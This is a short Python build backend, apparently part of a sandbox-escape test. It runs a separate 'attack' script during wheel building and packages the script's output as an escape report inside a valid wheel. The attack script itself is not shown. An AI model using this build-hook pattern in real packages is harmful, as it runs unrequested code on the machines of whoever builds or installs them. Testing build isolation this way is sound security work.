"""A build backend that attacks, and puts what came of it into its wheel."""

import base64
import hashlib
import os
import subprocess
import sys
import zipfile

_HERE = os.path.dirname(os.path.abspath(__file__))


def build_wheel(folder, *_, **__):
    """Attack, then build as any backend does."""
    with open(os.path.join(_HERE, "attack", "names")) as stream:
        names = stream.read().split()
    attempt = os.path.join(_HERE, "attack", "attempt.py")
    done = subprocess.run([sys.executable, attempt, *names], stdout=subprocess.PIPE, check=False)
    with open(os.path.join(_HERE, "attack", "version")) as stream:
        version = stream.read().strip()
    files = {
        "escape_report.txt": done.stdout,
        f"escape-{version}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: escape\nVersion: {version}\n",
        f"escape-{version}.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = ""
    name = f"escape-{version}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        for path, content in files.items():
            data = content if isinstance(content, bytes) else content.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            rows += f"{path},sha256={digest},{len(data)}\n"
            wheel.writestr(path, data)
        record = f"escape-{version}.dist-info/RECORD"
        wheel.writestr(record, f"{rows}{record},,\n")
    return name


build_editable = build_wheel
